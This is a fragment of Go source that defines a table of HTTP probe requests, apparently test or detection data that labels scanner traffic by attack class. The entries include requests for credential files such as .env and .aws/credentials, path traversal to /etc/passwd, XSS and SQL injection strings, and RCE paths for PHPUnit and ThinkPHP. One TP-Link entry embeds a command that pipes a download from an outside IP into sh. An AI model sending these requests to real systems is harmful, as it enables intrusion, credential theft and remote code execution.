	{"GET", "/.env", acDisclosure, mrDotenv, 404},
	{"GET", "/.env.production", acDisclosure, mrDotenv, 404},
	{"GET", "/api/.env", acDisclosure, mrDotenv, 404},
	{"GET", "/.git/config", acDisclosure, mrGit, 404},
	{"GET", "/.git/HEAD", acDisclosure, mrGit, 404},
	{"GET", "/.aws/credentials", acDisclosure, nil, 404},
	{"GET", "/wp-config.php.bak", acDisclosure, mrWPBackup, 404},
	{"GET", "/wp-config.php~", acDisclosure, mrWPBackup, 404},
	{"GET", "/actuator/env", acDisclosure, mrActuator, 404},
	{"GET", "/config.json", acNone, nil, 404},
	{"GET", "/phpinfo.php", acNone, nil, 404},
	{"GET", "/info.php", acNone, nil, 404},
	{"GET", "/server-status", acNone, nil, 403},
	{"GET", "/.DS_Store", acNone, nil, 404},
	{"GET", "/.well-known/security.txt", acNone, nil, 404},
	{"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", acRCE, mrPHPUnit, 404},
	{"GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21", acRCE, mrThinkPHP, 404},
	{"GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F194.38.20.161%2Ft%7Csh%60)", acRCE, mrTPLink, 404},
	{"POST", "/boaform/admin/formLogin", acNone, nil, 404},
	{"GET", "/HNAP1/", acNone, nil, 404},
	{"GET", "/solr/admin/info/system?wt=json", acNone, nil, 404},
	{"GET", "/owa/auth/logon.aspx", acNone, nil, 404},
	{"GET", "/wp-includes/wlwmanifest.xml", acNone, nil, 404},
	{"GET", "/wp-admin/setup-config.php", acNone, nil, 404},
	{"GET", "/xmlrpc.php", acNone, nil, 405},
	{"GET", "/phpmyadmin/index.php", acNone, nil, 404},
	{"GET", "/admin/", acNone, nil, 404},
	{"GET", "/login.action", acNone, nil, 404},
	{"GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", acTraversal, mrTraversal, 400},
	{"GET", "/search?q=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E", acXSS, mrXSS, 200},
	{"GET", "/products?id=1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2C%40%40version--%20-", acSQLi, mrSQLiUnion, 404},
	{"GET", "/api/v1/users?id=1%20OR%201%3D1", acSQLi, mrSQLiBool, 404},
	{"GET", "/robots.txt", acNone, nil, 200},
	{"GET", "/", acNone, nil, 200},
	{"GET", "/favicon.ico", acNone, nil, 200},
}

var probesByClass = map[attackClass][]int{}

func init() {
	for i, p := range probes {
		probesByClass[p.class] = append(probesByClass[p.class], i)
	}
}
